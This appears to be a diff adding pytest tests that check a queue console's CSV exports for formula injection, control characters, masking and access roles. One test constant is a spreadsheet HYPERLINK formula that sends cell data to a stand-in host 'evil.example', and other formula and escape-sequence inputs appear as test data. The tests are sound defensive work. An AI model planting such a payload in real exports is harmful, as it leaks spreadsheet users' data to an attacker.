@@ -1,0 +1,117 @@
+"""Lists as CSV: whole, masked, and no text of a stranger is a formula."""
+
+import csv
+from collections.abc import Iterator
+from pathlib import Path
+
+import httpx2
+import pytest
+from lxml import html
+
+from amqsidecar.http.access import Role
+from amqsidecar.http.masking import Masking
+from amqsidecar.model.operation import Member
+from amqsidecar.operations import export
+from amqsidecar.operations.export import MEMBERS_HEADERS, cell, members_csv
+from support.console_site import running_console
+from support.console_store import dead, keep, open_store
+from support.web_site import NO_TLS, running_site
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"due")'
+
+
+def rows_of(answer: httpx2.Response) -> list[dict[str, str]]:
+    assert answer.status_code == 200, answer.text
+    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
+    return list(csv.DictReader(answer.text.splitlines(keepends=True)))
+
+
+@pytest.fixture
+def client(tmp_path: Path) -> Iterator[httpx2.Client]:
+    store = open_store(tmp_path / "schedule.db")
+    now_ms = store._clock.now_ms()
+    causes = [EVIL, " @SUM(A1)", 'a "quoted", text\nof lines', "late"]
+    keep(store, [dead(n, cause, now_ms) for n, cause in enumerate(causes, 1)])
+    store.close()
+    with (
+        running_console(tmp_path / "schedule.db") as address,
+        httpx2.Client(base_url=address, timeout=30, verify=NO_TLS) as client,
+    ):
+        yield client
+
+
+@pytest.mark.parametrize(
+    "start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "  =", "\u3000=", "\ufeff=", " \u200b@"]
+)
+def test_no_text_is_a_formula(start: str) -> None:
+    assert cell(f"{start}1+1") == f"'{start}1+1"
+    member = Member(redelivery_id=f"{start}1", destination="queue://a", changed_at_ms=0)
+    [row] = csv.DictReader(members_csv([member]).splitlines(keepends=True), MEMBERS_HEADERS)
+    assert row["redelivery_id"] == f"'{start}1"
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+@pytest.mark.parametrize("start", [";", "\t", "\n", "\r\n", "; ", ';"'])
+def test_no_text_has_a_formula_in_it_where_cells_end_elsewhere(start: str, delimiter: str) -> None:
+    """Spreadsheets of many countries take a file apart at semicolons."""
+    member = Member(redelivery_id="1", destination=f"a{start}=1+1;b", changed_at_ms=0)
+    rows = csv.reader(members_csv([member]).splitlines(keepends=True), delimiter=delimiter)
+    assert not [one for row in rows for one in row if one.lstrip(' "').startswith("=")]
+
+
+@pytest.mark.parametrize("start", ["\0=", " \0=", "\x1b[31m=", "\x9b2J", "\x07"])
+def test_no_control_character_reaches_a_terminal_or_hides_a_formula(start: str) -> None:
+    shown = cell(f"{start}1+1")
+    assert shown.isprintable()
+    assert not shown.lstrip().startswith("=")
+
+
+def test_numbers_and_plain_texts_are_as_they_are() -> None:
+    assert [cell(value) for value in (-5, 0, None, "a=b;c", "")] == ["-5", "0", "", "a=b;c", ""]
+
+
+def test_messages_that_match_are_a_file(client: httpx2.Client) -> None:
+    page = html.fromstring(client.get("/messages?destination=orders").text)
+    [address] = page.xpath("//a[contains(., 'as CSV')]/@href")
+    answer = client.get(address)
+    assert answer.headers["content-disposition"] == 'attachment; filename="messages.csv"'
+    found = rows_of(answer)
+    assert [row["id"] for row in found] == ["4", "3", "2", "1"]
+    assert [row["cause"] for row in found] == [
+        "late",
+        'a "quoted", text\nof lines',
+        "' @SUM(A1)",
+        f"'{EVIL}",
+    ]
+    assert {row["state"] for row in found} == {"waiting"}
+    assert [row["id"] for row in rows_of(client.get("/messages.csv?cause=late"))] == ["4"]
+    assert client.get("/messages.csv?state=lost").status_code == 400
+
+
+def test_groups_are_a_file(client: httpx2.Client) -> None:
+    page = html.fromstring(client.get("/groups").text)
+    [address] = page.xpath("//a[contains(., 'As CSV')]/@href")
+    found = rows_of(client.get(address))
+    assert len(found) == 4
+    assert all(not row["cause_group"].lstrip().startswith(("=", "@")) for row in found)
+    assert {row["waiting"] for row in found} == {"1"}
+
+
+def test_a_list_that_is_too_long_says_so_by_its_name(
+    client: httpx2.Client, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(export, "ROWS_MAX", 3)
+    answer = client.get("/messages.csv")
+    assert "messages-first-" in answer.headers["content-disposition"]
+    assert len(rows_of(answer)) == 3
+
+
+def test_what_is_masked_and_who_may_not_ask_is_the_same_as_elsewhere(tmp_path: Path) -> None:
+    with running_site(tmp_path, Masking(patterns=["timeout after"])) as site:
+        viewer = site.client("token", Role.VIEWER)
+        for path in ("/messages.csv", "/api/v1/messages.csv"):
+            text = viewer.get(path).text
+            assert "***" in text
+            assert "timeout after" not in text
+        assert site.client().get("/api/v1/messages.csv").status_code == 401
+        assert viewer.get("/api/v1/operations/99/members.csv").status_code == 404
